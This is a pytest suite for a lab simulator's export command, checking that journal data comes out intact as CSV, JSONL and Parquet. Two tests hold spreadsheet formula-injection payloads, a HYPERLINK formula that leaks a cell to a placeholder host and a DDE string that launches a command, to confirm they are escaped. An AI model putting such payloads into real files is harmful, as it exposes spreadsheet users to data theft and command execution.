"""`twin export`: the journal's rows come out as they went in (Parquet read back equals the journal), every attempt
is a row, the provenance names the scenario's hash and the operators' acts, and bad requests say what to do."""

import csv
import json
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from tests.conftest import twin_cli
from twin.campaign.journal import Journal
from twin.campaign.journal_read import read_events, read_experiments, read_run
from twin.core.errors import TwinError
from twin.runtime.lab import prepare, run
from twin.runtime.run_record import scenario_hash
from twin.scenario import parse
from twin.tools.export import WHAT, export

ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def flaky(tmp_path_factory):
    """A flaky_lab run with failures, retries and abandoned experiments."""
    db = tmp_path_factory.mktemp("run") / "flaky.db"
    summary = run(prepare(ROOT / "scenarios" / "flaky_lab.yaml", seed=7, bus="memory",
                          overrides={"campaign.budget": 40, "orchestrator.retry.max_attempts": 1}), journal=db)
    assert summary.abandoned > 0 and summary.failed_attempts > 0
    return db


def test_experiments_in_parquet_equal_the_journal_rows(flaky, tmp_path):
    export(flaky, tmp_path, "parquet")
    table = pq.read_table(tmp_path / "experiments.parquet").to_pylist()
    journal = read_experiments(flaky)
    assert len(table) == len(journal) == 40
    for row, e in zip(table, journal):
        assert (row["experiment"], row["status"], row["reason"], row["attempts"], row["retries"]) == \
            (e["id"], e["status"], e["reason"], e["attempts"], e["retries"])
        assert row["degraded"] == bool(e["degraded"]) and row["t_proposed_s"] == e["t_proposed"]
        assert row["t_done_s"] == e["t_done"]
        assert {k[6:]: v for k, v in row.items() if k.startswith("param.")} == json.loads(e["params"])
        outputs = json.loads(e["outputs"] or "{}")
        assert {k[7:]: v for k, v in row.items() if k.startswith("output.") and v is not None} == outputs
        assert {k[6:]: v for k, v in row.items() if k.startswith("score.") and v is not None} == \
            json.loads(e["scores"] or "{}")


def test_every_attempt_is_one_row_and_the_formats_agree(flaky, tmp_path):
    events = read_events(flaky)
    sent = [(e["task"], e["attempt"]) for e in events if e["kind"] == "attempt.dispatched"]
    for fmt in ("csv", "jsonl", "parquet"):
        export(flaky, tmp_path / fmt, fmt, ["attempts", "devices"])
    with open(tmp_path / "csv" / "attempts.csv") as f:
        rows = list(csv.DictReader(f))
    lines = [json.loads(x) for x in (tmp_path / "jsonl" / "attempts.jsonl").read_text().splitlines()]
    parquet = pq.read_table(tmp_path / "parquet" / "attempts.parquet").to_pylist()
    assert [(r["task"], int(r["attempt"])) for r in rows] == sent == [(r["task"], r["attempt"]) for r in lines]
    assert lines == parquet
    failed = sum(e["kind"] == "attempt.failed" for e in events)
    assert sum(r["outcome"] == "failed" for r in lines) == failed > 0
    assert all(r["t_end_s"] >= r["t_sent_s"] for r in lines if r["t_end_s"] is not None)
    devices = [json.loads(x) for x in (tmp_path / "jsonl" / "devices.jsonl").read_text().splitlines()]
    assert sum(d["attempts"] for d in devices) == len(sent) and len(devices) == 6
    assert {d["device"]: d["busy_share"] for d in devices} == read_run(flaky)["summary"]["utilisation"]


def test_words_a_spreadsheet_would_run_as_a_formula_are_inert_in_csv_and_as_written_elsewhere(flaky, tmp_path):
    """An operator's reason (or a driver's error) is free text: `=HYPERLINK(...)` in a CSV cell runs when the
    file is opened in a spreadsheet."""
    hostile = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "@SUM(1,2)",
               "-2+3", "\t=1"]
    j = Journal(tmp_path / "ops.db")
    j.set("scenario", read_run(flaky)["scenario"])
    for t, reason in enumerate(hostile + ["a plain reason", "1-2"]):
        j.event(float(t), "operator.pause", detail={"who": "mallory", "ref": str(t), "reason": reason, "now": True})
    j.close()
    for fmt in ("csv", "jsonl"):
        export(tmp_path / "ops.db", tmp_path / fmt, fmt, ["operator"])
    with open(tmp_path / "csv" / "operator.csv", newline="") as f:
        cells = [r["reason"] for r in csv.DictReader(f)]
    assert cells == ["'" + h for h in hostile] + ["a plain reason", "1-2"]
    lines = [json.loads(x)["reason"] for x in (tmp_path / "jsonl" / "operator.jsonl").read_text().splitlines()]
    assert lines == hostile + ["a plain reason", "1-2"]
    with open(tmp_path / "csv" / "operator.csv", newline="") as f:
        assert [r["t_lab_s"] for r in csv.DictReader(f)][:2] == ["0.0", "1.0"]  # numbers as they are


def test_what_remote_devices_report_is_inert_in_the_health_csv(tmp_path):
    """`twin device health --csv`: a device's name and what it says it runs come from the bus; numbers stay."""
    import typer

    from twin.cli.distributed import show_health

    answers = [{"device": "@SUM(1,2)", "report": {"running": '=HYPERLINK("http://example.invalid")', "dropped": 3,
                                                  "driver": {"temp": -0.5}}},
               {"device": "reader-1", "report": {"running": ["e1s0", 1], "dropped": "-2", "driver": "+cmd"}},
               {"device": "reader-2", "report": None}]
    with pytest.raises(typer.Exit) as ended:  # one did not answer
        show_health(answers, csv_out=tmp_path / "h.csv")
    assert ended.value.exit_code == 1
    with open(tmp_path / "h.csv", newline="") as f:
        rows = [[r["device"], r["running"], r["dropped"], r["driver"]] for r in csv.DictReader(f)]
    assert rows == [["'@SUM(1,2)", "'=HYPERLINK(\"http://example.invalid\")", "3", '{"temp": -0.5}'],
                    ["reader-1", "e1s0#1", "-2", '"+cmd"'], ["reader-2", "", "", "null"]]


def test_a_table_without_rows_still_has_its_columns(flaky, tmp_path):
    """flaky_lab has no consumables and no operator: both tables came out without a column (a CSV of one empty
    line), and a script's `df["item"]` raised KeyError on a run that simply used none."""
    from twin.tools.export import COLUMNS

    for fmt in ("csv", "parquet"):
        export(flaky, tmp_path / fmt, fmt, ["consumables", "operator", "devices"])
    for name in ("consumables", "operator"):
        with open(tmp_path / "csv" / f"{name}.csv") as f:
            assert next(csv.reader(f)) == list(COLUMNS[name]) and not f.read()
        table = pq.read_table(tmp_path / "parquet" / f"{name}.parquet")
        assert table.column_names == list(COLUMNS[name]) and table.num_rows == 0
    assert pq.read_table(tmp_path / "parquet" / "devices.parquet").column_names == list(COLUMNS["devices"])
    assert set(WHAT) == set(COLUMNS)
    from twin.cli.export import ALL_TABLES

    assert ALL_TABLES.split(",") == list(WHAT)  # `twin export`'s default: every table


def test_provenance_names_the_scenario_hash_versions_and_operator_acts(flaky, tmp_path):
    export(flaky, tmp_path, "csv", ["operator"])
    record = json.loads((tmp_path / "provenance.json").read_text())
    scenario = parse(read_run(flaky)["scenario"], "journal")
    assert record["scenario_sha256"] == scenario_hash(scenario) and record["seed"] == 7
    assert {"labtwin", "numpy", "python"} <= set(record["versions"]) and record["operator_acts"] == []
    # a journal with an operator's acts (as a live campaign writes them)
    j = Journal(tmp_path / "ops.db")
    j.set("scenario", read_run(flaky)["scenario"])
    j.event(10.0, "operator.pause", detail={"who": "alice", "ref": "1", "reason": "refill", "now": True})
    j.event(20.0, "operator.refused", 3, detail={"who": "bob", "ref": "2", "command": "abort", "why": "no such"})
    j.event(30.0, "operator.resume", detail={"who": "alice", "ref": "3"})
    j.close()
    export(tmp_path / "ops.db", tmp_path / "ops", "jsonl", ["operator"])
    acts = [json.loads(x) for x in (tmp_path / "ops" / "operator.jsonl").read_text().splitlines()]
    assert [(a["act"], a["who"], a["now"], a["refused"]) for a in acts] == [
        ("pause", "alice", True, None), ("abort", "bob", False, "no such"), ("resume", "alice", False, None)]
    assert json.loads((tmp_path / "ops" / "provenance.json").read_text())["operator_acts"] == acts


def test_bad_requests_name_what_to_do(flaky, tmp_path):
    with pytest.raises(TwinError, match="the tables are " + ", ".join(WHAT)):
        export(flaky, tmp_path, "csv", ["experiments", "gossip"])
    with pytest.raises(TwinError, match="use one of csv, parquet, jsonl"):
        export(flaky, tmp_path, "xlsx")
    (tmp_path / "notes.db").write_text("not a database")
    with pytest.raises(TwinError, match="not a labtwin journal"):
        export(tmp_path / "notes.db", tmp_path / "x")
    res = twin_cli("export", str(tmp_path / "none.db"), columns=80)
    assert res.exit_code == 2 and "no such journal" in res.output
    res = twin_cli("export", str(flaky), "--format", "parquet", "--out", str(tmp_path / "cli"), columns=80)
    assert res.exit_code == 0 and (tmp_path / "cli" / "experiments.parquet").exists()
    assert len(res.output.splitlines()) == len(WHAT) + 1


def test_an_export_or_a_replay_of_a_journal_a_run_still_writes_says_it_holds_what_was_written_so_far(flaky, tmp_path):
    """Both wrote what a running campaign had journalled so far, as if it were the run's."""
    from twin.campaign.journal_lock import claim, release

    lock = claim(flaky)  # as the run writing it holds it
    try:
        for args, what in ((["export", flaky, "--out", tmp_path / "ex"], "the export"),
                           (["replay", flaky, "--save", tmp_path / "r.rrd"], "the recording")):
            res = twin_cli(*args)
            said = " ".join(res.stderr.split())
            assert res.exit_code == 0 and f"is still writing it, so {what} holds what it had written by now" in said
    finally:
        release(lock)
    assert "still writing" not in twin_cli("export", flaky, "--out", tmp_path / "ex2").stderr


def test_consumables_come_out_as_levels_over_time(tmp_path):
    from tests.conftest import qd_lab
    from tests.twin.test_consumables import stocked

    db = tmp_path / "c.db"
    run(parse(qd_lab(**{"campaign.budget": 6, "consumables": stocked(30, 2, refill_after=600)}), "lab.yaml"),
        journal=db)
    export(db, tmp_path / "out", "jsonl", ["consumables"])
    rows = [json.loads(x) for x in (tmp_path / "out" / "consumables.jsonl").read_text().splitlines()]
    for item, start in (("vials", 2.0), ("precursor", 30.0)):
        mine = [r for r in rows if r["item"] == item]
        assert mine[0]["why"] == "start" and mine[0]["level"] == start
        level = start
        for r in mine[1:]:  # each row's level follows from the one before and its change
            level = start if r["why"] == "refilled" and r["change"] is None else level + r["change"]
            assert r["level"] == pytest.approx(level) and r["level"] >= 0
    assert any(r["why"] == "refilled" and r["who"] == "simulated operator" for r in rows)


def test_each_instances_own_stock_is_its_own_series_from_its_start(tmp_path):
    """Exported and drawn: a series per instance's stock (the viewer draws it under its item)."""
    from tests.conftest import qd_lab
    from tests.rrd import read_rrd
    from twin.view.watch import RecordOptions

    db = tmp_path / "j.db"
    vials = {"unit": "vials", "level": 3, "device": "spectrometer", "used_by": {"measure": 1},
             "simulate_refill": {"after_s": 600}}
    summary = run(parse(qd_lab(**{"campaign.budget": 10, "consumables": {"vials": vials}}), "lab.yaml"), journal=db,
                  record=RecordOptions(save=tmp_path / "r.rrd"))
    assert summary.done == 10
    export(db, tmp_path / "out", "jsonl", ["consumables"])
    rows = [json.loads(line) for line in (tmp_path / "out" / "consumables.jsonl").read_text().splitlines()]
    series: dict[str, list[dict]] = {}
    for r in rows:
        series.setdefault(r["item"], []).append(r)
    assert set(series) == {"vials@spectrometer-1", "vials@spectrometer-2"}
    for item, rs in series.items():  # each series starts full and every row follows from the one before it
        assert rs[0]["why"] == "start" and rs[0]["level"] == 3 and rs[0]["unit"] == "vials"
        for before, r in zip(rs, rs[1:]):
            expected = 3 if r["why"] == "refilled" and r["change"] is None else before["level"] + r["change"]
            assert r["level"] == pytest.approx(expected) and r["level"] >= 0, (item, r)
            if r["why"] == "used":
                assert r["who"] == item.split("@")[1]
    assert sum(r["why"] == "used" for r in rows) == 10
    rrd = read_rrd(tmp_path / "r.rrd")
    for item, rs in series.items():
        drawn = [r["Scalars:scalars"][0] for r in rrd["consumables/vials/" + item.split("@")[1]]]
        assert len(drawn) == len(rs) - 1 and sorted(drawn) == sorted(r["level"] for r in rs[1:])


def test_an_out_directory_that_cannot_be_made_says_so(flaky, tmp_path):
    (tmp_path / "a_file").write_text("not a directory")
    res = twin_cli("export", str(flaky), "--out", str(tmp_path / "a_file" / "x"))
    assert res.exit_code == 2 and "error: --out" in res.output and "give --out a directory you can write" in \
        " ".join(res.output.split()), res.output


def test_an_export_interrupted_mid_table_leaves_the_earlier_tables_whole(flaky, tmp_path, monkeypatch):
    """Ctrl-C while a table was written left it half written, under its name, over the earlier export's."""
    from twin.tools import export as module

    out = tmp_path / "tables"
    module.export(flaky, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    write = module._write_table

    def stopped_halfway(path, rows, fmt, base):
        if path.name.startswith(".decisions"):
            write(path, rows[: len(rows) // 2], fmt, base)
            raise KeyboardInterrupt
        write(path, rows, fmt, base)

    monkeypatch.setattr(module, "_write_table", stopped_halfway)
    with pytest.raises(KeyboardInterrupt):
        module.export(flaky, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before  # nothing half written, nothing left over


def test_every_table_has_exactly_its_listed_columns_when_it_has_rows(tmp_path):
    """The columns each table is written with (``COLUMNS``) are listed beside the functions that build its rows: a
    key a row builder gains, or drops, must be listed too, or the empty table and the full one would differ."""
    from twin.tools.export import COLUMNS

    db = tmp_path / "staffed.db"
    run(prepare(ROOT / "scenarios" / "staffed_lab.yaml", seed=1, overrides={"campaign.budget": 12}), journal=db)
    export(db, tmp_path / "out", "csv")
    for name in WHAT:
        with open(tmp_path / "out" / f"{name}.csv", newline="") as f:
            header, first = next(csv.reader(f)), next(csv.reader(f), None)
        assert first is not None, f"{name}: no row to check its columns by"
        listed = list(COLUMNS[name])
        if name == "experiments":  # then each parameter, output and score
            assert header[:len(listed)] == listed, header
            assert all(c.startswith(("param.", "output.", "score.")) for c in header[len(listed):]), header
        else:
            assert header == listed, (name, header)
